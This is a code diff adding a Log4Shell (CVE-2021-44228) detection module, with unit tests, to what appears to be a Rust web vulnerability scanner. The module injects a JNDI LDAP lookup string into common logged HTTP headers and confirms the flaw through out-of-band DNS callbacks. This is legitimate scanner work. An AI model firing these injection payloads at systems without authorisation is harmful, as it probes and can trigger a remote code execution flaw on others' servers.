@@ -0,0 +1,192 @@
+use crate::i18n::Message;
+use crate::modules::Build;
+use crate::modules::Finding;
+use crate::modules::HttpModule;
+use crate::modules::Intrusiveness;
+use crate::modules::Module;
+use crate::modules::Registration;
+use crate::modules::Severity;
+use crate::modules::Tag;
+use crate::modules::http::ScanContext;
+use crate::oob::Oob;
+use crate::throttle::SendAdaptive;
+use async_trait::async_trait;
+
+use anyhow::Result;
+use reqwest::Client;
+use std::sync::Arc;
+
+pub struct Log4Shell {
+    oob: Option<Arc<Oob>>,
+}
+
+// Request headers commonly written to application logs
+const HEADERS: &[&str] = &["User-Agent", "X-Forwarded-For", "Referer"];
+
+impl Log4Shell {
+    pub fn new(oob: Option<Arc<Oob>>) -> Self {
+        Log4Shell { oob }
+    }
+}
+
+impl Module for Log4Shell {
+    fn name(&self) -> String {
+        String::from("http/log4shell")
+    }
+
+    fn description(&self) -> Message {
+        Message::new("module-http-log4shell")
+            .arg("server", "--oob-server")
+            .arg("domain", "--oob-domain")
+    }
+
+    fn severity(&self) -> Severity {
+        Severity::High
+    }
+
+    fn references(&self) -> Vec<&'static str> {
+        vec!["https://nvd.nist.gov/vuln/detail/CVE-2021-44228"]
+    }
+}
+
+inventory::submit! {
+    Registration {
+        name: "http/log4shell",
+        tags: &[Tag::Injection],
+        intrusiveness: Intrusiveness::Safe,
+        requires: &[],
+        build: Build::Http(|options| Box::new(Log4Shell::new(options.oob.clone()))),
+    }
+}
+
+#[async_trait]
+impl HttpModule for Log4Shell {
+    async fn scan(&self, http_client: &Client, context: &ScanContext) -> Result<Option<Finding>> {
+        // Callbacks can only be observed through an OOB server or listener
+        let Some(oob) = &self.oob else {
+            return Ok(None);
+        };
+
+        // Send HTTPS and HTTP requests, each header carrying its own JNDI lookup
+        // - The DNS lookup of the LDAP host is enough to confirm the injection
+        // - Findings are reported later, when the OOB server is polled
+        for &schema in context.schemes() {
+            let url = context.url(schema, "/");
+            let mut request = http_client.get(&url);
+
+            for &header in HEADERS {
+                let url = url.clone();
+                let module = self.name();
+                let host = oob.payload_host(move |interaction| {
+                    Finding::new(module, "Log4ShellCallback", Severity::High, &url)
+                        .with_evidence(vec![
+                            format!("header: {}", header),
+                            format!(
+                                "{} callback from {} at {}",
+                                interaction.protocol.to_uppercase(),
+                                interaction.remote_address,
+                                interaction.timestamp
+                            ),
+                        ])
+                        .with_metadata("header", header)
+                        .with_metadata("protocol", &interaction.protocol)
+                });
+                request = request.header(header, format!("${{jndi:ldap://{}/a}}", host));
+            }
+
+            if request.send_adaptive(&context.limiter).await.is_ok() {
+                break;
+            }
+        }
+
+        Ok(None)
+    }
+
+    fn max_requests(&self) -> usize {
+        if self.oob.is_some() { 2 } else { 0 }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::modules::http::context::tests::local;
+    use httpmock::prelude::*;
+
+    #[tokio::test]
+    async fn test_scan_should_inject_jndi_payloads() {
+        // Set up mock interaction server
+        let oob_server = MockServer::start_async().await;
+
+        oob_server
+            .mock_async(|when, then| {
+                when.method(POST).path("/register");
+                then.status(200);
+            })
+            .await;
+
+        let oob = Oob::connect(
+            &format!("http://{}:{}", oob_server.host(), oob_server.port()),
+            None,
+        )
+        .await
+        .unwrap();
+
+        // Set up mock target HTTP server
+        let mock_server = MockServer::start_async().await;
+
+        let injected = mock_server
+            .mock_async(|when, then| {
+                when.method(GET)
+                    .path("/")
+                    .header_matches(
+                        "user-agent",
+                        r"^\$\{jndi:ldap://[0-9a-v]{33}\.127\.0\.0\.1/a\}$",
+                    )
+                    .header_exists("x-forwarded-for")
+                    .header_exists("referer");
+                then.status(200);
+            })
+            .await;
+
+        // Set up input arguments
+        let module = Log4Shell::new(Some(Arc::new(oob)));
+        let client = Client::builder()
+            .danger_accept_invalid_certs(true)
+            .build()
+            .unwrap();
+        let endpoint = format!("{}:{}", mock_server.host(), mock_server.port());
+
+        // Run scan
+        let result = module.scan(&client, &local(&endpoint)).await.unwrap();
+
+        // Check result: findings only come from OOB callbacks
+        assert!(result.is_none());
+        injected.assert_calls_async(1).await;
+    }
+
+    #[tokio::test]
+    async fn test_scan_should_return_none_without_oob_server() {
+        // Set up mock target HTTP server
+        let mock_server = MockServer::start_async().await;
+
+        let any_request = mock_server
+            .mock_async(|when, then| {
+                when.method(GET);
+                then.status(200);
+            })
+            .await;
+
+        // Set up input arguments
+        let module = Log4Shell::new(None);
+        let client = Client::new();
+        let endpoint = format!("{}:{}", mock_server.host(), mock_server.port());
+
+        // Run scan
+        let result = module.scan(&client, &local(&endpoint)).await.unwrap();
+
+        // Check result
+        assert!(result.is_none(), "Should return None without OOB server");
+        any_request.assert_calls_async(0).await;
+    }
+}